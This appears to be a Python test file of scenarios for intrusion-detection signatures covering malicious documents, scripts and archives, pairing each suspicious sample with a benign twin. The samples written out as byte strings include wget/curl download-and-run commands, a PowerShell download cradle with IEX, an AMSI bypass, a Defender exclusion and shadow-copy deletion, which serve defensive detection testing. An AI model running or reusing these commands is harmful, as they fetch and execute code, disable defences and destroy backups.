# SPDX-License-Identifier: GPL-2.0-or-later
"""Scenarios of documents.rules, scripts.rules and archives.rules."""
import base64
import struct

from sig_base import Case, fetched, up, wide
from sig_files import CODE, PE, entry

OLE = bytes.fromhex("d0cf11e0a1b11ae1").ljust(512, b"\0")
MSI_CLASS = bytes.fromhex("84100c0000000000c000000000000046")
ONENOTE = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3").ljust(200, b"\0")
ONE_FILE = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
LNK = bytes.fromhex("4c0000000114020000000000c000000000000046").ljust(76, b"\0")
PDF = b"%%PDF-1.5\n1 0 obj<</Type/Catalog/%s<</S/%s/F(cmd.exe)>>>>endobj\n"


def html(text):
    return b"<html><body><pre>" + text + b"</pre></body></html>"


def smuggling(blob):
    page = "<html><script>var d='%s';var u=URL.createObjectURL(new Blob([atob(d)]));"
    page += "a.href=u;a.download='x';a.click();</script></html>"
    return (page % base64.b64encode(blob).decode()).encode()


DOCUMENTS = [
    Case(9000100, fetched(OLE + wide("_VBA_PROJECT\0")), fetched(OLE + wide("PROJECT\0"))),
    Case(9000101, fetched(entry("word/vbaProject.bin")), fetched(entry("word/document.xml"))),
    Case(
        9000102, fetched(entry("xl/macrosheets/sheet1.xml")), fetched(entry("xl/worksheets/1.xml"))
    ),
    Case(
        9000103,
        fetched(b"{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 01}}}"),
        fetched(b"{\\rtf1{\\object\\objautlink{\\*\\objdata 01}}}"),
    ),
    Case(
        9000104,
        fetched(b"{\\rt1{\\object{\\*\\objdata 0b0000004571756174696F6E2E3300}}}"),
        fetched(b"{\\rt1{\\object{\\*\\objdata 0b0000004571756174696F6E2E3400}}}"),
    ),
    Case(
        9000105, fetched(PDF % (b"OpenAction", b"Launch")), fetched(PDF % (b"OpenAction", b"URI"))
    ),
    Case(
        9000106,
        fetched(ONENOTE + wide("open.hta\0") + ONE_FILE + b"<script>"),
        fetched(ONENOTE + wide("open.jpg\0") + ONE_FILE + b"\xff\xd8\xff"),
    ),
    Case(
        9000107,
        fetched(b"ITSF\3\0\0\0\x60\0\0\0\1\0\0\0"),
        fetched(b"ITSF\4\0\0\0\x20\0\0\0\1\0\0\0"),
    ),
    Case(
        9000108,
        fetched(b"WEB\r\n1\r\nhttp://files.example/q.dat\r\n"),
        fetched(b"WEB\r\n1\r\nlater"),
    ),
    Case(9000109, fetched(smuggling(entry("a.js", CODE))), fetched(smuggling(b"a,b,c\n" * 99))),
    Case(
        9000110,
        fetched(LNK + wide("..\\..\\System32\\mshta.exe")),
        fetched(LNK + wide("..\\Documents\\letter.doc")),
    ),
]

GAFGYT = b"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://files.example/m"
FETCH = b"#!/bin/bash\ncurl -O http://192.0.2.9/%s\n%s\n./%s\n"
CRADLE = b"$c = New-Object Net.WebClient\nIEX ($c.DownloadString('http://files.example/a'))"
ENCODED = base64.b64encode(wide("IEX (New-Object Net.WebClient)")).decode()
LOAD = b"$b=[Convert]::FromBase64String($t)\n[System.Reflection.Assembly]::%s($b)"
AMSI = b"[Ref].Assembly.GetType('S').GetField('amsiInitFailed').%s($null,$true)"
DROPPER = b'x=CreateObject("MSXML2.%s")\ns=CreateObject("ADODB.Stream")\ns.SaveToFile "a"'
HTA = b'<HTA:APPLICATION id="a"><script>new ActiveXObject("%s")</script>'
SCRIPTLET = b'<scriptlet><%s progid="a"><script>new ActiveXObject("a")</script></scriptlet>'

SCRIPTS = [
    Case(9000200, fetched(GAFGYT), fetched(html(GAFGYT))),
    Case(
        9000201,
        fetched(FETCH % (b"x86", b"chmod 777 x86", b"x86")),
        fetched(FETCH % (b"x86", b"chmod 640 x86", b"x86")),
    ),
    Case(9000202, fetched(CRADLE), fetched(html(CRADLE))),
    Case(
        9000203,
        up(4444, b"cmd /c powershell.exe -nop -w hidden -enc %s\r\n" % ENCODED.encode()),
        up(4444, b"cmd /c powershell.exe -nop -w hidden -file encoded.ps1\r\n"),
    ),
    Case(9000204, fetched(LOAD % b"Load"), fetched(LOAD % b"LoadFile")),
    Case(9000205, fetched(AMSI % b"SetValue"), fetched(AMSI % b"GetValue")),
    Case(
        9000206,
        fetched(b"Add-MpPreference -ExclusionPath C:\\Users"),
        fetched(b"Get-MpPreference | select ExclusionPath"),
    ),
    Case(9000207, fetched(DROPPER % b"XMLHTTP"), fetched(DROPPER % b"DOMDocument")),
    Case(9000208, fetched(HTA % b"WScript.Shell"), fetched(HTA % b"Scripting.Dictionary")),
    Case(9000209, fetched(b"#@~^lgAAAA==-mD~X"), fetched(b"#@~^ means: encoded==")),
    Case(
        9000210,
        fetched(b"@echo off\r\ncertutil -decode a.txt a.dat\r\n"),
        fetched(b"@echo off\r\ncertutil -hashfile a.dat\r\n"),
    ),
    Case(
        9000211,
        fetched(bytes.fromhex("a3484bbe986c4aa9994c530a86d6487d") + b"AU3!EA06" + CODE),
        fetched(b"AU3!EA06" + CODE),
    ),
    Case(9000212, fetched(SCRIPTLET % b"registration"), fetched(SCRIPTLET % b"component")),
    Case(
        9000213,
        fetched(b"vssadmin.exe Delete Shadows /All /Quiet\r\n"),
        fetched(b"vssadmin.exe List Shadows\r\n"),
    ),
]


def rar(name):
    """The beginning of a RAR 4 archive: marker, archive header, file header."""
    name = name.encode()
    head = b"\x74\x20\x90" + struct.pack("<HIIB", 32 + len(name), 400, 400, 2)
    head += struct.pack("<IIBBHI", 0, 0, 29, 0x33, len(name), 32)
    return b"Rar!\x1a\x07\0" + b"\xcf\x90\x73\0\0\x0d\0\0\0\0\0\0\0" + b"\0\0" + head + name + CODE


def sevenz(name):
    return (
        b"7z\xbc\xaf\x27\x1c\0\x04"
        + b"\x11" * 24
        + CODE
        + b"\x05\x01\x11\x15\0"
        + wide(name + "\0")
    )


def cabinet(*names):
    head = b"MSCF\0\0\0\0" + struct.pack(
        "<IIIIBBHHHHH", 900, 0, 44, 0, 3, 1, 1, len(names), 0, 7, 0
    )
    head += struct.pack("<IHH", 200, 1, 1)
    for name in names:
        head += struct.pack("<IIHHHH", 400, 0, 0, 0x5000, 0, 32) + name.encode() + b"\0"
    return head + CODE


def disk(name):
    volume = b"\1CD001\1\0" + b"LINUX".ljust(2040)
    return b"\0" * 32768 + volume + b"\0" * 2048 + b"\x2e\0" + name.encode() + b";1\0" + CODE


def ole(kind):
    return OLE + wide("Root Entry").ljust(80, b"\0") + kind


ARCHIVES = [
    Case(9000300, fetched(entry("a.txt") + entry("b.exe")), fetched(entry("exe.txt"))),
    Case(9000301, fetched(entry("b.exe", CODE, 1)), fetched(entry("b.exe", CODE)), (9000300,), (9000300,)),
    Case(
        9000302, fetched(entry("bill.pdf   .exe")), fetched(entry("bill.pdf/a.exe")),
        (9000300,), (9000300,),
    ),
    Case(9000303, fetched(rar("bill.exe")), fetched(rar("exe.docx"))),
    Case(9000304, fetched(sevenz("bill.exe")), fetched(sevenz("bill.exe.config"))),
    Case(9000305, fetched(cabinet("bill.exe")), fetched(cabinet("bill.exe", "more.exe"))),
    Case(9000306, fetched(disk("BILL.EXE")), fetched(disk("BILL.TXT"))),
    Case(9000307, fetched(b"\x12\x34\x31\0\0\0\x90**ACE**\x14\x14"), fetched(b"About **ACE** files")),
    Case(9000310, fetched(ole(MSI_CLASS)), fetched(ole(MSI_CLASS[::-1]))),
    Case(
        9000311, fetched(PE + b"\0\0\0\0\xef\xbe\xad\xdeNullsoftInst"), fetched(PE + b"NullsoftInst"),
        (9000002,), (9000002,),
    ),
    Case(
        9000312, fetched(PE + bytes.fromhex("72446c507453cde6d77b0b2a")), fetched(PE + b"rDlPtS"),
        (9000002,), (9000002,),
    ),
    Case(
        9000313, fetched(PE + b";!@Install@!UTF-8!\r\nRunProgram="), fetched(PE + b"Install"),
        (9000002,), (9000002,),
    ),
]  # fmt: skip

CASES = DOCUMENTS + SCRIPTS + ARCHIVES
